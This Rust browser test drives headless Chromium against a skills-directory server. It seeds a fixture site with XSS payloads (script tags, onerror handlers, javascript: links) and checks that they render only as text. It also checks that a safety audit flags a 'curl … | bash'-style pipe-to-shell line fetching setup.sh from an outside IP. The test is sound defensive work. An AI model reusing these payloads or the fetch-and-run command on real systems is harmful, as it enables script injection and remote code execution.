//! The web pages in a real browser: headless Chromium driven through WebDriver
//! (`chromedriver`), against the server on a loopback port, over the fixture web crawled on
//! loopback plus `evil.test`, a site whose every text is a script injection, and sites of
//! `tests/fixtures/audit-web` (skills the safety audit flags, one skill at two origins).
//!
//! Without Chromium and chromedriver the test says it skips, unless `CI` is set, where a
//! missing browser is a broken set-up. Screenshots of the pages at 1280 and 390 px go to
//! `target/screenshots/`.

#[path = "../api/fixture.rs"]
#[allow(dead_code)]
mod fixture;
#[path = "../../../crawler/tests/it/server.rs"]
#[allow(dead_code, unreachable_pub)]
mod server;

use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use api::{ServeConfig, Tokens};
use fantoccini::{Client, ClientBuilder, Locator};
use serde_json::{Value, json};

/// The hostile site: a legacy index whose one skill carries script in its name, description,
/// body and file names. Each payload would set `window.__pwned` if it ran.
fn write_evil_site(web: &Path) {
    let root = web.join("evil.test/.well-known/skills");
    let skill = root.join("xss-probe");
    std::fs::create_dir_all(&skill).unwrap();
    let file_name = "<img src=x onerror=window.__pwned=3>.md";
    std::fs::write(
        root.join("index.json"),
        json!({"skills": [{
            "name": "xss-probe",
            "description": "<script>window.__pwned=1</script><img src=x onerror=\"window.__pwned=2\"> javascript:alert(1)",
            "files": ["SKILL.md", file_name],
        }]})
        .to_string(),
    )
    .unwrap();
    std::fs::write(skill.join(file_name), "payload file").unwrap();
    std::fs::write(
        skill.join("SKILL.md"),
        "---\nname: <script>window.__pwned=4</script>\ndescription: \"<img src=x onerror=window.__pwned=5> Probes <b>escaping</b>\"\n---\n\
         # Probe <script>window.__pwned=6</script>\n\n<img src=\"x\" onerror=\"window.__pwned=7\">\n\n\
         [click me](javascript:window.__pwned=8)\n\n<a id=\"jslink\" href=\"javascript:window.__pwned=9\">js link</a>\n\n\
         <iframe src=\"https://evil.test/\"></iframe>\n",
    )
    .unwrap();
}

/// The directory served on a loopback port until dropped, with its stores and the web it
/// crawled (a test crawls again in place of a background crawl).
struct Directory {
    addr: SocketAddr,
    store: std::sync::Arc<store::Store>,
    blobs: store::blobs::Blobs,
    web: PathBuf,
    _dir: tempfile::TempDir,
    _shutdown: tokio::sync::oneshot::Sender<()>,
}

async fn start_directory() -> Directory {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let web = dir.path().join("web");
    write_evil_site(&web);
    let (store, blobs) = {
        let data = data.clone();
        let web = web.clone();
        tokio::task::spawn_blocking(move || {
            let (store, blobs) = fixture::crawl_fixture_web(&data);
            // The hostile skill's name is refused by agent clients: the report says so.
            let report = fixture::crawl_report_into(&store, &blobs, &web, &["evil.test"], true);
            assert!(
                report.domains[0]
                    .errors
                    .iter()
                    .all(|error| error.code == "invalid_name"),
                "{report:?}"
            );
            // Skills the safety audit flags, and one skill published at two origins.
            let audited = fixture::repo_root().join("tests/fixtures/audit-web");
            let sites = ["flagged.test", "origin-a.test", "origin-b.test"];
            fixture::crawl_into(&store, &blobs, &audited, &sites, true);
            (store, blobs)
        })
        .await
        .unwrap()
    };
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    // The public URL is the fixture's (`http://directory.test/`), as in the API tests.
    let (kept_store, kept_blobs) = (std::sync::Arc::clone(&store), blobs.clone());
    let state = tokio::task::spawn_blocking(move || {
        let tokens = Tokens::from_list([fixture::TOKEN]);
        fixture::state_over(&data, store, blobs, tokens, ServeConfig::default())
    })
    .await
    .unwrap();
    let (shutdown, stop) = tokio::sync::oneshot::channel::<()>();
    tokio::spawn(api::serve(listener, state, async {
        let _ = stop.await;
    }));
    Directory {
        addr,
        store: kept_store,
        blobs: kept_blobs,
        web,
        _dir: dir,
        _shutdown: shutdown,
    }
}

/// chromedriver, killed when dropped.
struct Driver {
    child: Child,
    port: u16,
}

impl Drop for Driver {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn find(program: &str, env: &str) -> Option<PathBuf> {
    if let Some(path) = std::env::var_os(env) {
        return Some(PathBuf::from(path)).filter(|path| path.is_file());
    }
    let path = std::env::var_os("PATH")?;
    std::env::split_paths(&path)
        .map(|dir| dir.join(program))
        .find(|candidate| candidate.is_file())
}

/// Returns the browser and its driver, or `None` (having said why) where they are missing
/// and `CI` is unset.
#[allow(clippy::print_stderr)]
fn browser() -> Option<(PathBuf, PathBuf)> {
    let chromium =
        find("chromium", "CHROME_BIN").or_else(|| find("chromium-browser", "CHROME_BIN"));
    let driver = find("chromedriver", "CHROMEDRIVER");
    match (chromium, driver) {
        (Some(chromium), Some(driver)) => Some((chromium, driver)),
        _ if std::env::var_os("CI").is_some() => {
            panic!(
                "CI is set but chromium or chromedriver is missing (apt-get install chromium chromium-driver)"
            )
        }
        _ => {
            eprintln!(
                "skipping the browser tests: chromium or chromedriver not found (apt-get install chromium chromium-driver, or set CHROME_BIN and CHROMEDRIVER)"
            );
            None
        }
    }
}

async fn start_driver(driver: &Path) -> Driver {
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let child = Command::new(driver)
        .arg(format!("--port={port}"))
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("start chromedriver");
    let started = Instant::now();
    while tokio::net::TcpStream::connect(("127.0.0.1", port))
        .await
        .is_err()
    {
        assert!(
            started.elapsed() < Duration::from_secs(20),
            "chromedriver did not start"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    Driver { child, port }
}

async fn connect(driver: &Driver, chromium: &Path) -> Client {
    let mut capabilities = serde_json::Map::new();
    capabilities.insert(
        "goog:chromeOptions".to_owned(),
        json!({
            "binary": chromium,
            "args": ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                     "--window-size=1280,1000", "--hide-scrollbars", "--force-device-scale-factor=1",
                     "--no-first-run", "--disable-extensions", "--disable-background-networking"],
        }),
    );
    ClientBuilder::new(hyper_util::client::legacy::connect::HttpConnector::new())
        .capabilities(capabilities)
        .connect(&format!("http://127.0.0.1:{}", driver.port))
        .await
        .expect("open a browser session")
}

/// Waits until `script` (a function body) returns true.
async fn until(client: &Client, what: &str, script: &str) {
    let started = Instant::now();
    loop {
        let value = client.execute(script, vec![]).await.unwrap();
        if value == Value::Bool(true) {
            return;
        }
        assert!(
            started.elapsed() < Duration::from_secs(10),
            "timed out waiting: {what}"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

async fn eval(client: &Client, script: &str) -> Value {
    client.execute(script, vec![]).await.unwrap()
}

/// Saves screenshots of the current page at 1280 and 390 px wide, the whole page long.
async fn screenshots(client: &Client, name: &str) {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../target/screenshots");
    std::fs::create_dir_all(&dir).unwrap();
    for width in [1280, 390] {
        client.set_window_size(width, 900).await.unwrap();
        let height = eval(client, "return document.documentElement.scrollHeight").await;
        let height = height.as_u64().unwrap_or(900).clamp(600, 4000) as u32;
        client.set_window_size(width, height).await.unwrap();
        // Headless windows include no browser chrome, so the viewport is the window; wait
        // for the layout to follow the new size.
        tokio::time::sleep(Duration::from_millis(150)).await;
        let png = client.screenshot().await.unwrap();
        std::fs::write(dir.join(format!("{name}-{width}.png")), png).unwrap();
    }
    client.set_window_size(1280, 1000).await.unwrap();
}

/// Asserts that the page weighs under 50 KB with its assets (no images are used) and that
/// nothing shifted while it loaded.
async fn assert_light_and_still(client: &Client, page: &str) {
    let found = eval(
        client,
        "return new Promise(resolve => {
            const bytes = performance.getEntriesByType('navigation')
                .concat(performance.getEntriesByType('resource'))
                .reduce((sum, entry) => sum + (entry.decodedBodySize || 0), 0);
            let shift = 0;
            new PerformanceObserver(list => list.getEntries().forEach(e => { shift += e.value; }))
                .observe({ type: 'layout-shift', buffered: true });
            setTimeout(() => resolve({ bytes, shift }), 100);
        })",
    )
    .await;
    let bytes = found["bytes"].as_u64().unwrap();
    assert!(bytes > 1000 && bytes < 50 * 1024, "{page}: {bytes} bytes");
    assert!(
        found["shift"].as_f64().unwrap() < 0.01,
        "{page}: layout shift {found}"
    );
}

/// What no page may contain: script from content, inline handlers, `javascript:` links.
async fn assert_no_script_ran(client: &Client, page: &str) {
    let found = eval(
        client,
        "return {
            pwned: window.__pwned === undefined ? null : String(window.__pwned),
            scripts: Array.from(document.scripts).map(s => /^\\/assets\\/site\\.[0-9a-f]{12}\\.js$/.test(s.getAttribute('src'))),
            handlers: document.querySelectorAll('[onerror],[onclick],[onload]').length,
            js_links: document.querySelectorAll('a[href^=\"javascript:\" i]').length,
            frames: document.querySelectorAll('iframe,object,embed').length,
        }",
    )
    .await;
    assert_eq!(
        found["pwned"],
        Value::Null,
        "{page}: a payload ran: {found}"
    );
    assert_eq!(found["scripts"], json!([true]), "{page}: {found}");
    assert_eq!(found["handlers"], 0, "{page}: {found}");
    assert_eq!(found["js_links"], 0, "{page}: {found}");
    assert_eq!(found["frames"], 0, "{page}: {found}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_pages_in_a_real_browser() {
    let Some((chromium, driver)) = browser() else {
        return;
    };
    let directory = start_directory().await;
    let driver = start_driver(&driver).await;
    let client = connect(&driver, &chromium).await;
    let base = format!("http://{}", directory.addr);
    // The scenarios run in a task of their own, so that the browser is closed whether they
    // pass or panic.
    let scenarios = tokio::spawn({
        let client = client.clone();
        async move {
            scenarios(&client, &base).await;
            recrawl_now_shows_the_crawl_when_it_lands(&client, &base, &directory).await;
        }
    })
    .await;
    let _ = client.close().await;
    if let Err(failure) = scenarios {
        std::panic::resume_unwind(failure.into_panic());
    }
}

async fn scenarios(client: &Client, base: &str) {
    typing_updates_the_results_and_the_url(client, base).await;
    a_filter_changes_the_counts(client, base).await;
    the_keyboard_reaches_and_opens_a_result(client, base).await;
    the_skill_page_renders_markdown(client, base).await;
    hostile_text_is_shown_as_text_and_never_runs(client, base).await;
    the_publisher_page_shows_failing_checks(client, base).await;
    a_flagged_skill_shows_its_findings(client, base).await;
}

async fn a_flagged_skill_shows_its_findings(client: &Client, base: &str) {
    // Left out of a default search, found with `risk=any`.
    client
        .goto(&format!("{base}/?q=quick+setup"))
        .await
        .unwrap();
    let hits = eval(client, "return Array.from(document.querySelectorAll('.hit h2 a')).map(a => a.getAttribute('href'))").await;
    assert!(!hits.to_string().contains("quick-setup"), "{hits}");
    client
        .goto(&format!("{base}/?q=quick+setup&risk=any"))
        .await
        .unwrap();
    let badge = eval(client, "const a = document.querySelector('.hit h2 a[href=\"/skill/flagged.test/quick-setup\"]'); return a ? a.closest('.hit').querySelector('.badge.risk-critical').textContent : null").await;
    assert!(badge.to_string().contains("critical"), "{badge}");

    client
        .goto(&format!("{base}/skill/flagged.test/quick-setup"))
        .await
        .unwrap();
    assert_light_and_still(client, "flagged skill").await;
    assert_no_script_ran(client, "flagged skill").await;
    let findings = eval(
        client,
        "return Array.from(document.querySelectorAll('table.findings tbody tr')).map(r => ({
            severity: r.querySelector('[data-label=Severity]').innerText.trim(),
            rule: r.querySelector('[data-label=Rule]').innerText.trim(),
            place: r.querySelector('[data-label=Where] code').innerText.trim(),
            excerpt: r.querySelector('pre.excerpt').innerText,
        }))",
    )
    .await;
    let first = &findings[0];
    assert_eq!(first["rule"], "pipe_to_shell", "{findings}");
    assert_eq!(first["place"], "SKILL.md:10", "{findings}");
    assert!(
        first["severity"]
            .as_str()
            .unwrap()
            .eq_ignore_ascii_case("critical"),
        "{findings}"
    );
    assert!(
        first["excerpt"]
            .as_str()
            .unwrap()
            .contains("http://198.51.100.23/setup.sh | bash"),
        "{findings}"
    );
    let caveat = eval(
        client,
        "return document.getElementById('audit').parentElement.innerText",
    )
    .await;
    assert!(
        caveat
            .as_str()
            .unwrap()
            .contains("a linter, not a certificate"),
        "{caveat}"
    );
    screenshots(client, "flagged-skill").await;

    // One skill at two origins: one hit, and its page lists the other.
    client.goto(&format!("{base}/?q=pdf+tables")).await.unwrap();
    let copies = eval(client, "return Array.from(document.querySelectorAll('.hit .by a[href$=\"#copies\"]')).map(a => a.textContent)").await;
    assert_eq!(copies, json!(["also published at 1 other origin"]));
    client
        .find(Locator::Css(".hit .by a[href$='#copies']"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    until(
        client,
        "the copies listed",
        "return document.getElementById('copies') !== null && document.querySelectorAll('#copies + p + ul a').length === 1",
    )
    .await;
}

/// "Recrawl now" on a publisher's page: the request is answered in the page, then, once a
/// crawl of the site is stored (here the test crawls, in place of the background crawl), the
/// page says what it found, without a reload. See: Publishers in the loop.
async fn recrawl_now_shows_the_crawl_when_it_lands(
    client: &Client,
    base: &str,
    directory: &Directory,
) {
    client
        .goto(&format!("{base}/domains/evil.test"))
        .await
        .unwrap();
    eval(client, "window.__notReloaded = true; return true").await;
    client
        .find(Locator::Css("form.recrawl button"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    until(
        client,
        "the recrawl request answered",
        "return document.getElementById('recrawl-status').textContent.includes('waiting for the crawl')",
    )
    .await;
    let (store, blobs, web) = (
        std::sync::Arc::clone(&directory.store),
        directory.blobs.clone(),
        directory.web.clone(),
    );
    tokio::task::spawn_blocking(move || {
        fixture::crawl_report_into(&store, &blobs, &web, &["evil.test"], true);
    })
    .await
    .unwrap();
    until(
        client,
        "the crawl shown",
        "return document.getElementById('recrawl-status').textContent.includes('Crawled just now: 1 skills')",
    )
    .await;
    assert_eq!(
        eval(client, "return window.__notReloaded === true").await,
        Value::Bool(true)
    );
    // Asked again at once: the domain's budget says when to come back, in the page.
    client
        .find(Locator::Css("form.recrawl button"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    until(
        client,
        "the budget's answer",
        "return document.getElementById('recrawl-status').textContent.includes('retry in')",
    )
    .await;
}

async fn typing_updates_the_results_and_the_url(client: &Client, base: &str) {
    client.goto(&format!("{base}/")).await.unwrap();
    assert_light_and_still(client, "search").await;
    let box_ = client.find(Locator::Css("input[name=q]")).await.unwrap();
    box_.send_keys("pdf").await.unwrap();
    // No submit: the script searches as you type.
    until(client, "results for the typed query", "return location.search === '?q=pdf' && document.querySelector('#results .summary').textContent.includes('pdf')").await;
    let titles = eval(
        client,
        "return Array.from(document.querySelectorAll('.hit h2')).map(h => h.textContent)",
    )
    .await;
    assert!(titles.as_array().unwrap().len() > 1, "{titles}");
    let marks = eval(
        client,
        "return document.querySelectorAll('#results mark').length",
    )
    .await;
    assert!(marks.as_u64().unwrap() > 0, "snippets highlight the match");
    screenshots(client, "search").await;
    // The back button returns to the page before the search.
    client.back().await.unwrap();
    until(client, "back to the empty search", "return location.search === '' && !document.querySelector('#results .summary').textContent.includes('pdf')").await;
}

async fn a_filter_changes_the_counts(client: &Client, base: &str) {
    client.goto(&format!("{base}/")).await.unwrap();
    let total_before = eval(
        client,
        "return parseInt(document.querySelector('.summary').textContent)",
    )
    .await;
    let link = client
        .find(Locator::Css("#results aside a[href*='type=api']"))
        .await
        .unwrap();
    let facet_count = eval(client, "return parseInt(document.querySelector(\"#results aside a[href*='type=api'] .count\").textContent)").await;
    link.click().await.unwrap();
    until(
        client,
        "the filter applied",
        "return location.search.includes('type=api') && document.querySelector('.chip') !== null",
    )
    .await;
    let total_after = eval(
        client,
        "return parseInt(document.querySelector('.summary').textContent)",
    )
    .await;
    assert_eq!(total_after, facet_count, "the total is the facet's count");
    // A count is one line, however long its value, at any width.
    for width in [1280, 390] {
        client.set_window_size(width, 900).await.unwrap();
        let wrapped = eval(
            client,
            "return Array.from(document.querySelectorAll('#results aside .count')).filter(c => c.getBoundingClientRect().height > 1.5 * parseFloat(getComputedStyle(c).lineHeight || '20')).map(c => c.textContent)",
        )
        .await;
        assert_eq!(wrapped, json!([]), "counts wrapped at {width} px");
    }
    client.set_window_size(1280, 1000).await.unwrap();
    assert_ne!(total_after, total_before, "the counts changed");
    let current = eval(
        client,
        "return Array.from(document.querySelectorAll('#results aside a[aria-current]')).map(a => a.getAttribute('href'))",
    )
    .await;
    assert_eq!(
        current,
        json!(["/"]),
        "the applied filter is marked, and removes itself"
    );
    // Removing the filter (the chip) restores the total.
    client
        .find(Locator::Css(".chip"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    until(
        client,
        "the filter removed",
        "return document.querySelector('.chip') === null",
    )
    .await;
    let total_again = eval(
        client,
        "return parseInt(document.querySelector('.summary').textContent)",
    )
    .await;
    assert_eq!(total_again, total_before);
}

async fn the_keyboard_reaches_and_opens_a_result(client: &Client, base: &str) {
    client.goto(&format!("{base}/?q=pdf")).await.unwrap();
    let tab: String = char::from(fantoccini::key::Key::Tab).to_string();
    let enter: String = char::from(fantoccini::key::Key::Enter).to_string();
    let body = client.find(Locator::Css("body")).await.unwrap();
    body.click().await.ok();
    let mut reached = None;
    for _ in 0..80 {
        client
            .active_element()
            .await
            .unwrap()
            .send_keys(&tab)
            .await
            .unwrap();
        let href = eval(client, "const a = document.activeElement; return a && a.closest('.hit h2') ? a.getAttribute('href') : null").await;
        if let Value::String(href) = href {
            reached = Some(href);
            break;
        }
    }
    let href = reached.expect("Tab reaches a result");
    let outline = eval(
        client,
        "return getComputedStyle(document.activeElement).outlineStyle",
    )
    .await;
    assert_ne!(outline, "none", "the focused result shows its focus");
    client
        .active_element()
        .await
        .unwrap()
        .send_keys(&enter)
        .await
        .unwrap();
    until(
        client,
        "the result opened",
        &format!("return location.pathname === {}", json!(href)),
    )
    .await;
}

async fn the_skill_page_renders_markdown(client: &Client, base: &str) {
    client
        .goto(&format!("{base}/skill/legacy-tools.test/csv-cleanup"))
        .await
        .unwrap();
    assert_light_and_still(client, "skill").await;
    let rendered = eval(client, "const m = document.querySelector('.markdown'); return m ? { headings: m.querySelectorAll('h1,h2,h3').length, text: m.textContent } : null").await;
    assert!(rendered["headings"].as_u64().unwrap_or(0) > 0, "{rendered}");
    assert!(
        !rendered["text"]
            .as_str()
            .unwrap_or("")
            .contains("---\nname:"),
        "frontmatter is not shown as markdown"
    );
    let file_link = eval(client, "const a = document.querySelector('a[href$=\"/files/scripts/clean.py\"]'); return a ? a.getAttribute('href') : null").await;
    assert_eq!(
        file_link,
        "/v1/skills/legacy-tools.test/csv-cleanup/files/scripts/clean.py"
    );
    let copy_buttons = eval(
        client,
        "return Array.from(document.querySelectorAll('button.copy')).filter(b => getComputedStyle(b).visibility === 'visible').length",
    )
    .await;
    assert!(
        copy_buttons.as_u64().unwrap() >= 2,
        "copy buttons: {copy_buttons}"
    );
    screenshots(client, "skill").await;
}

async fn hostile_text_is_shown_as_text_and_never_runs(client: &Client, base: &str) {
    client
        .goto(&format!("{base}/skill/evil.test/xss-probe"))
        .await
        .unwrap();
    let text = eval(client, "return document.body.innerText").await;
    let text = text.as_str().unwrap();
    for shown in [
        "<script>window.__pwned=4</script>",
        "<img src=x onerror=window.__pwned=5>",
        "<img src=x onerror=window.__pwned=3>.md",
    ] {
        assert!(text.contains(shown), "{shown} is shown as text");
    }
    assert_no_script_ran(client, "skill").await;
    screenshots(client, "hostile-skill").await;
    for page in [
        "/?q=probe&verdict=any",
        "/domains/evil.test",
        "/domains",
        "/?q=%3Cscript%3Ewindow.__pwned%3D10%3C%2Fscript%3E",
    ] {
        client.goto(&format!("{base}{page}")).await.unwrap();
        assert_no_script_ran(client, page).await;
    }
    let echoed = eval(
        client,
        "return document.querySelector('input[name=q]').value",
    )
    .await;
    assert_eq!(echoed, "<script>window.__pwned=10</script>");
}

async fn the_publisher_page_shows_failing_checks(client: &Client, base: &str) {
    client
        .goto(&format!("{base}/domains/sloppy.test"))
        .await
        .unwrap();
    assert_light_and_still(client, "publisher").await;
    let failing = eval(client, "return Array.from(document.querySelectorAll('table.checks tbody tr')).filter(r => r.querySelector('.badge.fail')).map(r => r.querySelector('th').textContent)").await;
    let failing = failing.to_string();
    for check in ["SKILL.md frontmatter valid", "Every entry valid"] {
        assert!(failing.contains(check), "{check} fails: {failing}");
    }
    let clients = eval(
        client,
        "return document.getElementById('clients').parentElement.textContent",
    )
    .await;
    let clients = clients.as_str().unwrap();
    assert!(clients.contains("refuses"), "{clients}");
    assert!(clients.contains("/mirror/sloppy.test"), "{clients}");
    screenshots(client, "publisher").await;
    client
        .goto(&format!("{base}/domains?sort=score"))
        .await
        .unwrap();
    screenshots(client, "publishers").await;
}
